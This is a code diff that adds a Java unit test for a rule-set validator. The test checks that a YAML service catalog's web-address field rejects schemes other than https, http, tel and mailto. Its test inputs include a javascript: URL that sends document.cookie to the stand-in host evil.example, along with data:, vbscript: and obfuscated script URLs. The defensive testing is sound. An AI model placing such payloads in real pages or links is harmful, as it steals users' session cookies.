@@ -42,6 +42,25 @@ class RuleSetValidatorTest {
     }
 
     @Test
+    void aWebAddressThatIsNotHttpsHttpTelOrMailtoIsRefusedAtItsLine() {
+        for (String web : new String[] {"javascript:fetch('//evil.example?'+document.cookie)", "JavaScript:alert(1)",
+            "data:text/html,<script>alert(1)</script>", "java\\tscript:alert(1)", "//evil.example", "vbscript:x"}) {
+            ValidationReport report = validate(RuleSets.edited("catalog/services.yaml",
+                    yaml -> yaml.replaceFirst("web: \"https://www.1177.se\"", java.util.regex.Matcher.quoteReplacement(
+                            "web: \"" + web + "\""))));
+
+            assertThat(report.valid()).as(web).isFalse();
+            assertThat(report.errors()).as(web).singleElement().satisfies(p -> {
+                assertThat(p.path()).isEqualTo("catalog/services.yaml");
+                // The tab is written \t in the file, so that address is found at its service's id (line 23) instead.
+                assertThat(p.line()).isEqualTo(web.contains("\\") ? 23 : 40);
+                assertThat(p.message()).contains("web", "https:", "http:", "tel:", "mailto:");
+                assertThat(p.sv()).contains("webbadress");
+            });
+        }
+    }
+
+    @Test
     void aKeyGivenTwiceIsRefused() {
         ValidationReport report = validate(RuleSets.edited("ruleset.yaml", yaml -> yaml.replace("elevatedFrom: 3", "elevatedFrom: 3\n  elevatedFrom: 9")));
 
